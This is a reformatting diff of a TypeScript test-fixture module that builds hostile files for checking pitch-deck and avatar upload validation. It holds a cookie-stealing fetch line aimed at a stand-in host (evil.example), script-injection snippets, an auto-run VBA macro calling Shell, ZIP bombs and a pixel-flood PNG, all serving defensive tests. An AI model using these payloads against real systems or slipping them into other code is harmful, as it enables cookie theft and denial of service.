@@ -16,7 +16,14 @@ export interface HostileFile {
 const HTML = '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>';
 const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>';
 const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)]);
-const PE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([0x80, 0, 0, 0]), Buffer.alloc(64), Buffer.from('PE\0\0'), Buffer.alloc(200)]);
+const PE = Buffer.concat([
+  Buffer.from('MZ'),
+  Buffer.alloc(58),
+  Buffer.from([0x80, 0, 0, 0]),
+  Buffer.alloc(64),
+  Buffer.from('PE\0\0'),
+  Buffer.alloc(200),
+]);
 const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';
 const contentTypes = (main: string, extra = '') =>
   '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
@@ -40,15 +47,33 @@ function lyingEntry(name: string, size: number) {
 /** Hostile files for the pitch-deck upload (PDF, PPT or PPTX by content, ≤ 25 MB). */
 export function hostileDecks(): HostileFile[] {
   const pdf = minimalPdf();
-  const oneMegabyteOfZeros = { name: Buffer.from(''), compressed: deflateRawSync(Buffer.alloc(1024 * 1024)), crc: crc32(Buffer.alloc(1024 * 1024)), size: 1024 * 1024 };
-  const deck = (label: string, fileName: string, data: Buffer | string, status: 413 | 422 = 422): HostileFile => ({ label, fileName, data: Buffer.from(data), status });
+  const oneMegabyteOfZeros = {
+    name: Buffer.from(''),
+    compressed: deflateRawSync(Buffer.alloc(1024 * 1024)),
+    crc: crc32(Buffer.alloc(1024 * 1024)),
+    size: 1024 * 1024,
+  };
+  const deck = (label: string, fileName: string, data: Buffer | string, status: 413 | 422 = 422): HostileFile => ({
+    label,
+    fileName,
+    data: Buffer.from(data),
+    status,
+  });
   return [
     deck('HTML page renamed .pdf', 'deck.pdf', HTML),
     deck('SVG with script renamed .pdf', 'deck.pdf', SVG),
     deck('JavaScript renamed .pdf', 'deck.pdf', 'fetch("https://evil.example/?c="+document.cookie)'),
-    deck('XHTML renamed .pptx', 'deck.pptx', `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`),
+    deck(
+      'XHTML renamed .pptx',
+      'deck.pptx',
+      `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`,
+    ),
     deck('UTF-16 HTML renamed .pdf', 'deck.pdf', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(HTML, 'utf16le')])),
-    deck('PDF/HTML polyglot (script in the first kilobyte)', 'deck.pdf', Buffer.concat([Buffer.from(`%PDF-1.4\n%${HTML}\n`), pdf.subarray(9)])),
+    deck(
+      'PDF/HTML polyglot (script in the first kilobyte)',
+      'deck.pdf',
+      Buffer.concat([Buffer.from(`%PDF-1.4\n%${HTML}\n`), pdf.subarray(9)]),
+    ),
     deck('PDF with a ZIP appended', 'deck.pdf', Buffer.concat([pdf, minimalPptx()])),
     deck('PPTX behind a PDF header', 'deck.pdf', Buffer.concat([Buffer.from('%PDF-1.4\n'), minimalPptx()])),
     deck('PDF after leading junk', 'deck.pdf', Buffer.concat([Buffer.from('JUNK\n'), pdf])),
@@ -63,22 +88,61 @@ export function hostileDecks(): HostileFile[] {
     deck('EICAR test virus renamed .pdf', 'deck.pdf', EICAR),
     deck('PNG image renamed .pdf', 'deck.pdf', Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex')),
     deck('plain ZIP renamed .pptx', 'deck.pptx', buildZip([{ name: 'notes.txt', data: 'hello' }])),
-    deck('Word document renamed .pptx', 'deck.pptx', buildZip([{ name: '[Content_Types].xml', data: contentTypes('application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml') }, { name: 'word/document.xml', data: '<w:document/>' }])),
-    deck('macro-enabled PPTM renamed .pptx', 'deck.pptx', buildZip([
-      { name: '[Content_Types].xml', data: contentTypes('application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml', '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>') },
-      ...withoutContentTypes,
-      { name: 'ppt/vbaProject.bin', data: 'Attribute VB_Name = "Module1"\nSub AutoOpen()\nShell "calc.exe"\nEnd Sub' },
-    ])),
-    deck('PPTX with an entry named like HTML in the first kilobyte', 'deck.pptx', buildZip([{ name: `<html><script>alert(1)</script>.xml`, data: 'x' }, ...PPTX_ENTRIES])),
+    deck(
+      'Word document renamed .pptx',
+      'deck.pptx',
+      buildZip([
+        {
+          name: '[Content_Types].xml',
+          data: contentTypes('application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'),
+        },
+        { name: 'word/document.xml', data: '<w:document/>' },
+      ]),
+    ),
+    deck(
+      'macro-enabled PPTM renamed .pptx',
+      'deck.pptx',
+      buildZip([
+        {
+          name: '[Content_Types].xml',
+          data: contentTypes(
+            'application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml',
+            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
+          ),
+        },
+        ...withoutContentTypes,
+        { name: 'ppt/vbaProject.bin', data: 'Attribute VB_Name = "Module1"\nSub AutoOpen()\nShell "calc.exe"\nEnd Sub' },
+      ]),
+    ),
+    deck(
+      'PPTX with an entry named like HTML in the first kilobyte',
+      'deck.pptx',
+      buildZip([{ name: `<html><script>alert(1)</script>.xml`, data: 'x' }, ...PPTX_ENTRIES]),
+    ),
     deck('PPTX without ppt/presentation.xml', 'deck.pptx', buildZip(PPTX_ENTRIES.filter((entry) => entry.name !== 'ppt/presentation.xml'))),
     deck('ZIP bomb: 2 MB of zeros at 1000:1', 'deck.pptx', pptx([{ name: 'ppt/media/zeros.bin', data: Buffer.alloc(2 * 1024 * 1024) }])),
-    deck('ZIP bomb: 300 entries of 1 MB', 'deck.pptx', buildZip([...PPTX_ENTRIES, ...Array.from({ length: 300 }, (_, index) => ({ ...oneMegabyteOfZeros, name: Buffer.from(`ppt/media/${index}.bin`) }))])),
+    deck(
+      'ZIP bomb: 300 entries of 1 MB',
+      'deck.pptx',
+      buildZip([
+        ...PPTX_ENTRIES,
+        ...Array.from({ length: 300 }, (_, index) => ({ ...oneMegabyteOfZeros, name: Buffer.from(`ppt/media/${index}.bin`) })),
+      ]),
+    ),
     deck('ZIP declaring a 4 GB entry', 'deck.pptx', buildZip([...PPTX_ENTRIES, lyingEntry('ppt/media/huge.bin', 0xfffffff0)])),
     deck('two PPTX archives back to back', 'deck.pptx', Buffer.concat([minimalPptx(), minimalPptx()])),
     deck('self-extracting stub before a PPTX', 'deck.pptx', Buffer.concat([PE, minimalPptx()])),
     deck('truncated PPTX', 'deck.pptx', minimalPptx().subarray(0, 200)),
-    deck('Word 97 document renamed .ppt', 'deck.ppt', ole2((file) => Buffer.from('WordDocument\0\0\0\0\0\0\0', 'utf16le').copy(file, 512 + 128))),
-    deck('OLE2 with a broken header', 'deck.ppt', ole2((file) => file.writeUInt16LE(0x1234, 28))),
+    deck(
+      'Word 97 document renamed .ppt',
+      'deck.ppt',
+      ole2((file) => Buffer.from('WordDocument\0\0\0\0\0\0\0', 'utf16le').copy(file, 512 + 128)),
+    ),
+    deck(
+      'OLE2 with a broken header',
+      'deck.ppt',
+      ole2((file) => file.writeUInt16LE(0x1234, 28)),
+    ),
     deck('empty file', 'deck.pdf', ''),
     deck('25 MB + 1 byte', 'deck.pdf', pdfOfSize(PITCH_DECK_MAX_BYTES + 1), 413),
   ];
@@ -86,7 +150,9 @@ export function hostileDecks(): HostileFile[] {
 
 /** A PNG whose header declares `width`×`height` pixels (its CRC fixed), over a 1×1 image's data. */
 async function pixelFlood(width: number, height: number): Promise<Buffer> {
-  const png = await sharp({ create: { width: 1, height: 1, channels: 3, background: '#fff' } }).png().toBuffer();
+  const png = await sharp({ create: { width: 1, height: 1, channels: 3, background: '#fff' } })
+    .png()
+    .toBuffer();
   png.writeUInt32BE(width, 16);
   png.writeUInt32BE(height, 20);
   png.writeUInt32BE(crc32(png.subarray(12, 29)) >>> 0, 29);
@@ -95,8 +161,15 @@ async function pixelFlood(width: number, height: number): Promise<Buffer> {
 
 /** Hostile files for the founder avatar (PNG, JPEG or WebP by content, ≤ 5 MB). */
 export async function hostileAvatars(): Promise<HostileFile[]> {
-  const png = await sharp({ create: { width: 32, height: 32, channels: 3, background: '#c84' } }).png().toBuffer();
-  const image = (label: string, fileName: string, data: Buffer | string, status: 413 | 422 = 422): HostileFile => ({ label, fileName, data: Buffer.from(data), status });
+  const png = await sharp({ create: { width: 32, height: 32, channels: 3, background: '#c84' } })
+    .png()
+    .toBuffer();
+  const image = (label: string, fileName: string, data: Buffer | string, status: 413 | 422 = 422): HostileFile => ({
+    label,
+    fileName,
+    data: Buffer.from(data),
+    status,
+  });
   return [
     image('SVG with script renamed .png', 'me.png', SVG),
     image('HTML renamed .png', 'me.png', HTML),
@@ -106,7 +179,11 @@ export async function hostileAvatars(): Promise<HostileFile[]> {
     image('PDF renamed .png', 'me.png', minimalPdf()),
     image('ELF executable renamed .png', 'me.png', ELF),
     image('truncated PNG', 'me.png', png.subarray(0, 60)),
-    image('PNG with a corrupt image stream', 'me.png', Buffer.concat([png.subarray(0, 41), Buffer.alloc(png.length - 53, 0xaa), png.subarray(-12)])),
+    image(
+      'PNG with a corrupt image stream',
+      'me.png',
+      Buffer.concat([png.subarray(0, 41), Buffer.alloc(png.length - 53, 0xaa), png.subarray(-12)]),
+    ),
     image('pixel flood: 60 000 × 60 000 declared', 'me.png', await pixelFlood(60_000, 60_000)),
     image('5 MB + 1 byte', 'me.png', Buffer.concat([png, Buffer.alloc(AVATAR_MAX_BYTES + 1 - png.length)]), 413),
   ];
